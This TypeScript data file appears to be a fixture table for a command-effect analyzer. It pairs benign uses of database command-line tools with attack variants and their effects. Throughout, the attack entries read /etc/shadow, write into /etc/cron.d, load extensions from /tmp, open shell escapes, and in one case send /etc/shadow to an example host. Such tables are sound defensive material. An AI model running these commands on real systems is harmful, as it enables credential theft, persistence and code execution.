import type { ExampleTable } from './example.ts'

export const sqlDatabases2: ExampleTable = {
  litestream: {
    use: 'litestream --config=app.conf → read app.conf',
    attack: [
      'litestream --config=/etc/shadow → read /etc/shadow',
      'litestream -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'litestream replicate': {
    use: 'litestream replicate notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
    attack: [
      'litestream replicate /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
      'litestream replicate notes.txt https://example.org/up --config=/etc/shadow → read /etc/shadow; read notes.txt; send https://example.org/up',
    ],
  },
  'litestream restore': {
    use: 'litestream restore -o out.txt → write out.txt',
    attack: [
      'litestream restore -o /etc/cron.d/job → write /etc/cron.d/job',
      'litestream restore --config=/etc/shadow → read /etc/shadow',
    ],
  },
  rqlite: {
    use: 'rqlite -f main.sql → read main.sql',
    attack: 'rqlite -f /etc/shadow → read /etc/shadow',
  },
  sqldiff: {
    use: 'sqldiff a.db b.db -L /usr/lib/plugin.so → load /usr/lib/plugin.so',
    attack: 'sqldiff a.db b.db -L /tmp/x.so → load /tmp/x.so',
  },
  'sqlite-utils': {
    use: 'sqlite-utils --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so',
    attack: 'sqlite-utils --load-extension=/tmp/x.so → load /tmp/x.so',
  },
  'sqlite-utils convert': {
    use: `sqlite-utils convert app.db orders name 'print(1)' → nothing`,
    attack: `sqlite-utils convert notes.txt orders name 'open("/etc/shadow").read()' → read /etc/shadow`,
  },
  'sqlite-utils insert': {
    use: 'sqlite-utils insert out.txt orders notes.txt → read notes.txt; write out.txt',
    attack: [
      'sqlite-utils insert /etc/cron.d/job orders notes.txt → read notes.txt; write /etc/cron.d/job',
      'sqlite-utils insert out.txt orders /etc/shadow → read /etc/shadow; write out.txt',
    ],
  },
  'sqlite-utils memory': {
    use: 'sqlite-utils memory a.csv --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so',
    attack: [
      'sqlite-utils memory a.csv --load-extension=/tmp/x.so → load /tmp/x.so',
      `sqlite-utils memory a.csv --functions='open("/etc/shadow").read()' → read /etc/shadow`,
    ],
  },
  'sqlite-utils query': {
    use: `sqlite-utils query app.db 'select 1' --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so`,
    attack: [
      `sqlite-utils query notes.txt "select readfile('/etc/shadow')" → read /etc/shadow`,
      `sqlite-utils query app.db 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so`,
    ],
  },
  sqlite3: {
    use: `sqlite3 app.db 'select 1' → nothing`,
    attack: [
      `sqlite3 app.db "select readfile('/etc/shadow')" → read /etc/shadow`,
      `sqlite3 app.db 'select 1' --init=/etc/shadow → read /etc/shadow`,
    ],
  },
  adrci: {
    use: 'adrci → nothing',
    attack: [
      `adrci --exec='!/tmp/x' → run /tmp/x`,
      'adrci --script=/etc/shadow → read /etc/shadow',
    ],
  },
  bcp: {
    use: 'bcp shop.orders in notes.txt → read notes.txt',
    attack: [
      'bcp shop.orders in /etc/shadow → read /etc/shadow',
      'bcp shop.orders in notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
    ],
  },
  beeline: {
    use: 'beeline → nothing',
    attack: [
      `beeline -e '!sh cat /etc/shadow' → read /etc/shadow`,
      'beeline -f /etc/shadow → read /etc/shadow',
    ],
  },
  bendsql: {
    use: 'bendsql → nothing',
    attack: `bendsql -q "select load_file('/etc/shadow')" → read /etc/shadow`,
  },
  bteq: {
    use: 'bteq → nothing',
  },
  'clickhouse-backup': {
    use: 'clickhouse-backup -c app.conf → read app.conf',
    attack: 'clickhouse-backup -c /etc/shadow → read /etc/shadow',
  },
  'clickhouse-benchmark': {
    use: 'clickhouse-benchmark → nothing',
    attack: [
      `clickhouse-benchmark --query="select * from file('/etc/shadow')" → read /etc/shadow`,
      'clickhouse-benchmark --json=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'clickhouse-client': {
    use: 'clickhouse-client → nothing',
    attack: [
      `clickhouse-client -q "select * from file('/etc/shadow')" → read /etc/shadow`,
      'clickhouse-client --queries-file=/etc/shadow → read /etc/shadow',
    ],
  },
  'clickhouse-copier': {
    use: 'clickhouse-copier --config=app.conf → read app.conf',
    attack: [
      'clickhouse-copier --config=/etc/shadow → read /etc/shadow',
      'clickhouse-copier --task-file=/etc/shadow → read /etc/shadow',
    ],
  },
  'clickhouse-local': {
    use: 'clickhouse-local → nothing',
    attack: [
      `clickhouse-local -q "select * from file('/etc/shadow')" → read /etc/shadow`,
      'clickhouse-local --file=/etc/shadow → read /etc/shadow',
    ],
  },
  'clickhouse-server': {
    use: 'clickhouse-server → listen 9000',
    attack: [
      'clickhouse-server -C /etc/shadow → read /etc/shadow; listen 9000',
      'clickhouse-server --pid-file=/etc/cron.d/job → listen 9000; write /etc/cron.d/job',
    ],
  },
  db2: {
    use: 'db2 -f main.sql → read main.sql',
    attack: [
      'db2 -f /etc/shadow → read /etc/shadow',
      'db2 -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  dbaccess: {
    use: 'dbaccess shop main.sql → read main.sql',
    attack: 'dbaccess shop /etc/shadow → read /etc/shadow',
  },
  exaplus: {
    use: 'exaplus -f main.sql → read main.sql',
    attack: [
      'exaplus -f /etc/shadow → read /etc/shadow',
      `exaplus --sql="select load_file('/etc/shadow')" → read /etc/shadow`,
    ],
  },
  expdp: {
    use: 'expdp --parfile=notes.txt → read notes.txt',
    attack: 'expdp --parfile=/etc/shadow → read /etc/shadow',
  },
  fisql: {
    use: 'fisql -i main.sql → read main.sql',
    attack: [
      'fisql -i /etc/shadow → read /etc/shadow',
      'fisql -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  freebcp: {
    use: 'freebcp shop.orders in notes.txt -f notes.txt → read notes.txt',
    attack: [
      'freebcp shop.orders in notes.txt -f /etc/shadow → read /etc/shadow',
      'freebcp shop.orders in notes.txt -e /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  gbak: {
    use: 'gbak notes.txt out.txt → read notes.txt; write out.txt',
    attack: [
      'gbak /etc/shadow out.txt → read /etc/shadow; write out.txt',
      'gbak notes.txt /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
    ],
  },
  gpfdist: {
    use: 'gpfdist -d src → read-tree src',
    attack: [
      'gpfdist -d /root/.ssh → read-tree /root/.ssh',
      'gpfdist -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  gpload: {
    use: 'gpload -f app.conf → read app.conf',
    attack: [
      'gpload -f /etc/shadow → read /etc/shadow',
      'gpload -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  gsec: {
    attack: 'gsec → privilege',
  },
  harlequin: {
    use: 'harlequin app.db --config-path=app.conf → read app.conf',
    attack: 'harlequin app.db --config-path=/etc/shadow → read /etc/shadow',
  },
  hdbsql: {
    use: `hdbsql 'select 1' -I main.sql → read main.sql`,
    attack: [
      `hdbsql "select load_file('/etc/shadow')" → read /etc/shadow`,
      `hdbsql 'select 1' -I /etc/shadow → read /etc/shadow`,
    ],
  },
  hive: {
    use: 'hive → nothing',
    attack: [
      `hive -e '!cat /etc/shadow' → read /etc/shadow`,
      'hive -f /etc/shadow → read /etc/shadow',
    ],
  },
  'impala-shell': {
    use: 'impala-shell → nothing',
    attack: [
      `impala-shell -q 'shell cat /etc/shadow' → read /etc/shadow`,
      'impala-shell -f /etc/shadow → read /etc/shadow',
    ],
  },
  isql: {
    use: 'isql -i main.sql → read main.sql',
    attack: [
      'isql -i /etc/shadow → read /etc/shadow',
      'isql -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'isql-fb': {
    use: 'isql-fb -i main.sql → read main.sql',
    attack: [
      'isql-fb -i /etc/shadow → read /etc/shadow',
      'isql-fb -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'isql-v': {
    use: 'isql-v → nothing',
  },
  iusql: {
    use: 'iusql → nothing',
  },
  lsnrctl: {
    use: 'lsnrctl → nothing',
  },
  mclient: {
    use: 'mclient main.sql → read main.sql',
    attack: [
      'mclient /etc/shadow → read /etc/shadow',
      `mclient -s "select load_file('/etc/shadow')" main.sql → read /etc/shadow`,
    ],
  },
  'mdb-export': {
    use: 'mdb-export notes.txt → read notes.txt',
    attack: 'mdb-export /etc/shadow → read /etc/shadow',
  },
  'mdb-sql': {
    use: 'mdb-sql app.mdb -i main.sql → read main.sql',
    attack: [
      'mdb-sql app.mdb -i /etc/shadow → read /etc/shadow',
      'mdb-sql app.mdb -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'mdb-tables': {
    use: 'mdb-tables notes.txt → read notes.txt',
    attack: 'mdb-tables /etc/shadow → read /etc/shadow',
  },
  'mssql-cli': {
    use: 'mssql-cli → nothing',
    attack: [
      `mssql-cli -Q "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
      'mssql-cli -i /etc/shadow → read /etc/shadow',
    ],
  },
  presto: {
    use: 'presto → nothing',
    attack: [
      `presto --execute="select load_file('/etc/shadow')" → read /etc/shadow`,
      'presto -f /etc/shadow → read /etc/shadow',
    ],
  },
  rman: {
    use: 'rman --cmdfile=main.txt → read main.txt',
    attack: [
      'rman --cmdfile=/etc/shadow → read /etc/shadow',
      'rman --log=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  snow: {
    use: 'snow -f main.sql → read main.sql',
    attack: 'snow -f /etc/shadow → read /etc/shadow',
  },
  snowsql: {
    use: 'snowsql → nothing',
    attack: 'snowsql -f /etc/shadow → read /etc/shadow',
  },
  sql: {
    use: 'sql → nothing',
  },
  sqlcl: {
    use: 'sqlcl → nothing',
  },
  sqlcmd: {
    use: 'sqlcmd → nothing',
    attack: [
      `sqlcmd -Q "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
      'sqlcmd -i /etc/shadow → read /etc/shadow',
    ],
  },
  sqlline: {
    use: 'sqlline → nothing',
    attack: [
      `sqlline -e '!sh cat /etc/shadow' → read /etc/shadow`,
      'sqlline -f /etc/shadow → read /etc/shadow',
    ],
  },
  sqlplus: {
    use: 'sqlplus → nothing',
  },
  sqsh: {
    use: 'sqsh → nothing',
    attack: [
      `sqsh -C "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
      'sqsh -i /etc/shadow → read /etc/shadow',
    ],
  },
  tsql: {
    use: 'tsql → nothing',
  },
}
